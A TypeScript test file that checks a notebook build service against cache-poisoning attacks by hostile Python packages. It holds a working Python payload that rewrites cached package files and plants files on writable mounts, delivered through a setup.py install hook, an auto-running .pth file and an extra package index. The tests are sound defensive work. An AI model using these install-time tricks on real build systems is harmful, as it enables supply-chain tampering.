/** Strangers' code that runs in builds tries to change what the next repository gets from the shared caches. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type IndexServer, startIndexServer } from '../../support/index-server.ts';
import { runNotebook } from '../../support/kernel.ts';
import { notebook } from '../../support/notebook.ts';
import { makeSdist, makeWheel } from '../../support/python-packages.ts';
import { expectOutputs, NONCE } from '../../support/scenario.ts';
import { openWorld, type World } from '../../support/world.ts';

/** Everything that this process may write and that speaks of a `pearl` is changed; writable mounts get a file too. */
const POISON = `
import os, sys

def poison():
    changed, mounts = [], []
    for line in open("/proc/mounts"):
        place = line.split()[1]
        if place.split("/")[1] in ("proc", "sys", "dev"):
            continue
        try:
            open(os.path.join(place, "poison"), "w").write("evil")
            mounts.append(place)
        except OSError:
            pass
    for folder, folders, files in os.walk("/"):
        folders[:] = [one for one in folders if os.path.join(folder, one) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(folder, name)
            if "pearl" not in path and "cache" not in path:
                continue
            try:
                data = open(path, "rb").read()
                if b"genuine" in data:
                    os.chmod(path, 0o666)
                    open(path, "wb").write(data.replace(b"genuine", b"evil!!!"))
                    changed.append(path)
            except OSError:
                pass
    return {"changed": changed, "mounts": mounts, "uid": os.getuid()}
`;

const SETUP = `${POISON}
report = poison()
open("hermit.py", "w").write("REPORT = " + repr(report) + "\\n")
from setuptools import setup
setup(name="hermit", version="1.0", py_modules=["hermit"])
`;

const BOOT = `${POISON}
try:
    open("/srv/env/limpet-ran-on-" + os.uname().nodename, "w").write(repr(poison()))
except OSError:
    pass
`;

interface Attack {
  title: string;
  /** The package that it goes for. */
  pearl: string;
  requirements(index: IndexServer): string;
  /** Says that the attack really took place. */
  cell: string;
  output: string | RegExp;
}

const pearl = (number: number) => `pearl${number}-${NONCE}`;
const module = (name: string) => name.replace('-', '_');

const attacks: Attack[] = [
  {
    title: 'a setup.py',
    pearl: pearl(1),
    requirements: () => `hermit-${NONCE}==1.0`,
    cell: `import hermit\nprint("ran as", hermit.REPORT["uid"], [m for m in hermit.REPORT["mounts"] if "cache" in m])`,
    output: /^ran as [1-9]\d* \[\]$/,
  },
  {
    title: "a wheel's .pth",
    pearl: pearl(2),
    requirements: () => `limpet-${NONCE}==1.0`,
    cell: 'import glob\nprint(len(glob.glob("/srv/env/limpet-ran-on-*")) > 0)',
    output: 'True',
  },
  {
    title: 'an index option',
    pearl: pearl(3),
    requirements: (index) => `--extra-index-url ${index.otherUrl}`,
    cell: `import ${module(pearl(3))} as pearl\nprint(pearl.NAME)`,
    output: 'evil!!!',
  },
];

describe('attacks on the shared caches', () => {
  let index: IndexServer;
  let world: World;

  const build = async (name: string, requirements: string, ...cells: string[]) => {
    const files = { 'requirements.txt': requirements, 'index.ipynb': notebook(...cells) };
    const { url } = await world.repo(name, [{ date: '2024-03-10', files }]);
    const { session } = await world.launch([url]);
    const outputs = await runNotebook(session, 'index.ipynb');
    await world.run(['stop', session.session]);
    return outputs;
  };
  const everyPearl = attacks.map(({ pearl }) => `${pearl}==1.0`).join('\n');
  const printNames = attacks.map(({ pearl }) => `import ${module(pearl)} as pearl\nprint(pearl.NAME)`);

  beforeAll(async () => {
    index = await startIndexServer();
    world = await openWorld({ SLIPWAY_MIRROR_PYPI: index.url });
    for (const { pearl } of attacks) {
      const wheel = (text: string) =>
        makeWheel({ name: pearl, version: '1.0', files: { [`${module(pearl)}.py`]: `NAME = "${text}"\n` } });
      index.add(pearl, [wheel('genuine')]);
      index.add(pearl, [wheel('evil!!!')], { index: 'other' });
    }
    index.add(`hermit-${NONCE}`, [
      await makeSdist({
        name: `hermit-${NONCE}`,
        version: '1.0',
        files: { 'setup.py': SETUP.replace('name="hermit"', `name="hermit-${NONCE}"`), 'hermit.py': '' },
      }),
    ]);
    index.add(`limpet-${NONCE}`, [
      makeWheel({
        name: `limpet-${NONCE}`,
        version: '1.0',
        files: { 'limpet.pth': 'import limpet_boot\n', 'limpet_boot.py': BOOT },
      }),
    ]);
    // The genuine packages are in the caches before anybody attacks them.
    expectOutputs(await build('before', `${everyPearl}\n`, ...printNames), ['genuine', 'genuine', 'genuine']);
  });
  afterAll(async () => {
    await world?.close();
    await index?.close();
  });

  it.each(attacks)('$title takes place, in its own environment', async (attack) => {
    const requirements = `${attack.requirements(index)}\n${attack.pearl}==1.0\n`;
    const outputs = await build(`attack ${attack.title}`.replace(/\W+/g, '-'), requirements, attack.cell);
    expectOutputs(outputs, [attack.output]);
  });

  it('the next repository gets the genuine packages', async () => {
    const requirements = `six==1.15.0\n${everyPearl}\n`;
    const cache = 'import glob\nprint(glob.glob("/srv/env/**/poison", recursive=True))';
    const outputs = await build('after', requirements, ...printNames, cache);
    expectOutputs(outputs, ['genuine', 'genuine', 'genuine', '[]']);
  });

  it('an index of its own is noticed', async () => {
    const files = { 'requirements.txt': `--extra-index-url ${index.otherUrl}\nsix\n` };
    const { url } = await world.repo('own-index', [{ date: '2024-03-10', files }]);
    const plan = await world.plan([url]);
    expect(plan.notices.filter(({ file }) => file === 'requirements.txt').map(({ message }) => message)).toEqual([
      expect.stringContaining(index.otherUrl),
    ]);
  });
});
